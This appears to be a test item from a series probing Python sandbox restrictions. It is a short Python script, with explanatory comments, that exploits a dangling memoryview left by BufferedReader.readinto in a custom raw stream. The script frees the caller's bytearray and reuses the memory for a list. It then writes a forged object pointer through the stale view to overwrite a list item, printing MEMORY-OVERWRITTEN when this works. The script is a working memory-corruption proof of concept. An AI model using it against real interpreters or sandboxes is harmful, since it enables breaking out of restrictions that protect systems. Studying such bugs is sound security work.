# family: wall (memory: BufferedReader.readinto lends its raw stream a writable view of the caller's bytearray)   goal: memory   interpreter: /usr/bin/python3
# The sixteenth round's ok_07, second half: a readinto larger than the buffer reads
# straight into the caller's bytearray through raw.readinto, passing a memoryview
# of the caller's storage with no export behind it once the call is over. The
# program's raw stream keeps it; user.clear() frees the storage; a list's item
# array takes the block, and a write through the kept view replaces one of its
# items. No close() needed. The wall: a buffered stream wraps only FileIO or
# BytesIO (io_wraps).
import io
import struct
saved = []
class RawR(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, b):
        saved.append(b)
        return len(b)
br = io.BufferedReader(RawR(), 16)
user = bytearray(100000)
br.readinto(user)
mv = saved.pop()
user.clear()
big = [None] * 12500
marker = "the marker object"
where = [i for i in range(0, len(mv) - 7, 8) if struct.unpack_from("<Q", mv, i)[0] == id(None)]
if len(where) > 100:
    off = where[0]
    struct.pack_into("<Q", mv, off, id(marker))
    seen = any(x is marker for x in big)
    struct.pack_into("<Q", mv, off, id(None))
    print("MEMORY-OVERWRITTEN: a list's item written through the kept view" if seen
          else "items under the view, none replaced")
else:
    print("no list under the kept view")
